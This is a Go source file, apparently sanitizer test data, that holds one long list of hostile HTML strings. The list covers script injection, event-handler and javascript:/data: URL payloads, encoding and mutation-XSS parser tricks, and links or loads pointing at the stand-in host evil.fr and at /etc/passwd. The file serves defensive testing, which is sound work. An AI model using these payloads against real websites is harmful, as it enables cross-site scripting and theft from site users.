package richtext

// hostileHTML are pieces of HTML that try to run a script, to load something, to look like the page or to leave it.
var hostileHTML = []string{
	// scripts
	`<script>alert(1)</script>`, `<SCRIPT>alert(1)</SCRIPT>`, `<script src=//evil.fr/x.js></script>`, `<script/x>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, "<script\n>alert(1)</script\n>", `<script>alert(1)`, `<<script>alert(1)//<</script>`,
	`<script type="text/x">a</script><script>alert(1)</script>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"\x00<scr\x00ipt>alert(1)</script>", `<script>/*<![CDATA[*/alert(1)/*]]>*/</script>`, `<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
	// handlers on allowed and other elements
	`<p onclick=alert(1)>a</p>`, `<p onclick="alert(1)" style="position:fixed;inset:0">a</p>`, `<a href="/x" onmouseover="alert(1)">a</a>`, `<a onclick=alert(1)>a</a>`,
	`<h2 onfocus=alert(1) tabindex=0 autofocus>a</h2>`, `<td onpointerenter=alert(1)>a</td>`, `<li/onclick=alert(1)>a`, `<p/onclick='alert(1)'>a`, "<p\fonclick=alert(1)>a", "<p\ronclick\r=alert(1)>a",
	`<img src=x onerror=alert(1)>`, `<img/src/onerror=alert(1)>`, `<image src=x onerror=alert(1)>`, `<img src="x` + "`" + `<script>alert(1)</script>"` + "`" + `>`,
	`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<video src=x onerror=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<audio src=x onloadstart=alert(1)>`, `<details open ontoggle=alert(1)>a</details>`, `<marquee onstart=alert(1)>a</marquee>`, `<object data="javascript:alert(1)">`,
	`<div contenteditable oninput=alert(1)>a</div>`, `<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>`, `<xss onanimationstart=alert(1) style="animation:x">a</xss>`,
	// addresses
	`<a href="javascript:alert(1)">a</a>`, `<a href="javascript://a.fr/%0aalert(1)">a</a>`, `<a href="javascript://a.fr:80/%0aalert(1)">a</a>`, `<a href="JaVaScRiPt:alert(1)">a</a>`, `<a href=" javascript:alert(1)">a</a>`, "<a href=\"java\nscript:alert(1)\">a</a>", "<a href=\"java\tscript:alert(1)\">a</a>",
	"<a href=\"\x01javascript:alert(1)\">a</a>", `<a href="&#106;avascript:alert(1)">a</a>`, `<a href="&#x6A;avascript:alert(1)">a</a>`, `<a href="&#0000106avascript:alert(1)">a</a>`, `<a href="javascript&colon;alert(1)">a</a>`,
	`<a href="java&Tab;script:alert(1)">a</a>`, `<a href="java&NewLine;script:alert(1)">a</a>`, `<a href="javascript&#58;alert(1)">a</a>`, `<a href="feed:javascript:alert(1)">a</a>`, `<a href="view-source:javascript:alert(1)">a</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">a</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>`, `<a href="DATA:image/svg+xml,<svg onload=alert(1)>">a</a>`, `<a href="vbscript:msgbox(1)">a</a>`,
	`<a href="blob:https://a.fr/x">a</a>`, `<a href="file:///etc/passwd">a</a>`, `<a href="filesystem:https://a.fr/x">a</a>`, `<a href="about:blank">a</a>`, `<a href="ms-officecmd:x">a</a>`, `<a href="tel:+33">a</a>`, `<a href="intent://x#Intent;end">a</a>`,
	`<a href="//evil.fr">a</a>`, `<a href="///evil.fr">a</a>`, `<a href="/\evil.fr">a</a>`, `<a href="\\evil.fr">a</a>`, `<a href="/&#92;evil.fr">a</a>`, "<a href=\"/\t/evil.fr\">a</a>", "<a href=\"/\n/evil.fr\">a</a>", `<a href="&#47;&#47;evil.fr">a</a>`,
	`<a href="http:evil.fr">a</a>`, `<a href="https:/evil.fr">a</a>`, `<a href="https:\\evil.fr">a</a>`, `<a href="https://">a</a>`, `<a href="https://gouv.fr@evil.fr">a</a>`, `<a href="https://gouv.fr:pw@evil.fr/">a</a>`, `<a href="https://gouv.fr\@evil.fr">a</a>`,
	`<a href="https://a.fr/&quot; onclick=&quot;alert(1)">a</a>`, `<a href='https://a.fr/"onclick="alert(1)'>a</a>`, "<a href=\"https://a.fr/`onclick=alert(1)\">a</a>", `<a href="https://a.fr/<script>alert(1)</script>">a</a>`, `<a href=https://a.fr/>>a</a>`,
	`<a href="mailto:">a</a>`, `<a href="mailto://evil.fr">a</a>`, `<a href="mailto:a@b.fr?attach=/etc/passwd">a</a>`, `<a href="mailto:a@b.fr%0d%0abcc:c@d.fr">a</a>`, `<a href="mailto:%22onclick=alert(1)%22@b.fr">a</a>`,
	`<a href="evil">a</a>`, `<a href="?logout">a</a>`, `<a href="#top">a</a>`, `<a href="./x">a</a>`, `<a href="../x">a</a>`, `<a href="">a</a>`, `<a href>a</a>`, `<a name=x>a</a>`, `<a id=x href=/x target=_blank rel=opener download ping=//evil.fr>a</a>`,
	`<a xlink:href="javascript:alert(1)">a</a>`, `<a href="/x" href="javascript:alert(1)">a</a>`, `<a HREF="javascript:alert(1)" href="/x">a</a>`, `<area href="javascript:alert(1)">`, `<base href="//evil.fr/">`, `<link rel=stylesheet href=//evil.fr>`,
	`<form action="javascript:alert(1)"><button>a</button></form>`, `<button formaction="javascript:alert(1)">a</button>`, `<isindex action=javascript:alert(1)>`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<embed src="data:image/svg+xml,x">`, `<frameset><frame src="javascript:alert(1)"></frameset>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<bgsound src="javascript:alert(1)">`, `<blockquote cite="javascript:alert(1)">a</blockquote>`,
	// looks and hooks
	`<p style="background:url(//evil.fr)">a</p>`, `<style>*{background:url(//evil.fr)}</style>`, `<style><!--</style><script>alert(1)</script>-->`, `<p class="fr-alert" id="contenu">a</p>`, `<p hx-get="/admin" data-x="y">a</p>`, `<p is="x-admin" slot=x part=y>a</p>`,
	`<ol start="1 onclick=alert(1)"><li>a</ol>`, `<ol start="-1"><li>a</ol>`, `<ol start="99999999999999999999"><li>a</ol>`, `<ol type=A reversed start=2><li value=7>a</ol>`, `<td colspan=9999 rowspan=9999>a</td>`, `<table background="//evil.fr"><tr><td>a</table>`, `<font color=red size=99>a</font>`,
	`<p dir=rtl lang=x translate=no>a</p>`, `<template><script>alert(1)</script></template>`, `<slot name=x>a</slot>`, `<dialog open>a</dialog>`, `<input type=password name=password>`, `<textarea><script>alert(1)</script></textarea>`, `<label for=password>a</label>`,
	// SVG and MathML
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><script>alert&#40;1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><set attributeName=href to=javascript:alert(1)>`,
	`<svg><use href="data:image/svg+xml,x#x"/></svg>`, `<svg><foreignObject><p onclick=alert(1)>a</p></foreignObject></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg></p><style><a title="</style><img src onerror=alert(1)>">`,
	`<math><mtext><script>alert(1)</script></mtext></math>`, `<math href="javascript:alert(1)">a</math>`, `<math><maction actiontype="statusline#http://evil.fr">a</maction></math>`, `<math><annotation-xml encoding="text/html"><p onclick=alert(1)>a</p></annotation-xml></math>`,
	// markup that a second parser reads differently
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
	`<noscript><style></noscript><img src=x onerror=alert(1)>`, `<p><svg><desc><p><style><!--</style><img src=x onerror=alert(1)>--></style>`, `<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>`, `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
	`<title><a title="</title><img src onerror=alert(1)>">`, `<textarea><p title="</textarea><img src onerror=alert(1)>">`, `<plaintext><img src onerror=alert(1)>`, `<listing>&lt;img src onerror=alert(1)&gt;</listing>`, `<select><style></select><img src onerror=alert(1)>`, `<select><template><img src onerror=alert(1)>`,
	`<table><a href="/x"><tr><td><script>alert(1)</script>`, `<table><p><b><table><i>`, `<a href="/x"><table><a href="/y">a</table>b`, `<p><table><p>a</table></p>`, `<b><p><i></b>a</p></i>`, `<ul><p><li><ul></li></p>a`, `<pre><code></pre><b>a</code>`, `<h2><h3><p>a</h2>b</h3>`, `<p><a><a href=/x><p>b</a>`,
	`<!--><script>alert(1)</script>-->`, `<!--a--!><img src onerror=alert(1)>-->`, `<!-- --><!---><img src onerror=alert(1)>`, `<![CDATA[<img src onerror=alert(1)>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE html [<!ENTITY x "y">]><p>&x;`, `</p onclick=alert(1)>`, `</ script>`, `<%<script>alert(1)</script>%>`,
	`<p title="a>b" onclick=alert(1)>`, `<p title=a"onclick=alert(1)>`, `<p "onclick=alert(1)>`, `<p =onclick=alert(1)>`, `<a href="a"b"onclick=alert(1)">`, `<a href='/x'onclick='alert(1)'>a</a>`, `<p a="`, `<p `, `<`, `</`, `<!`, `<a href="`, `&`, `&#`, `&#x`, `&lt`, `&ltscript&gtalert(1)&lt/script&gt`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src onerror=alert(1)&#x3e;`, `&#0;&#x80;&#xD800;&#x110000;&#13;&#9;`, "＜script＞alert(1)＜/script＞", "<\u0131mg src onerror=alert(1)>", "<\u212Aey>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028<script>\u2029alert(1)", "<p>\ufeff<script>\u200balert(1)",
	`<a href="/personnes/0123456789abc" onclick=alert(1)><script>alert(1)</script></a>`, `<a href="/personnes/0123456789abc"><img src onerror=alert(1)>a</a>`,
}
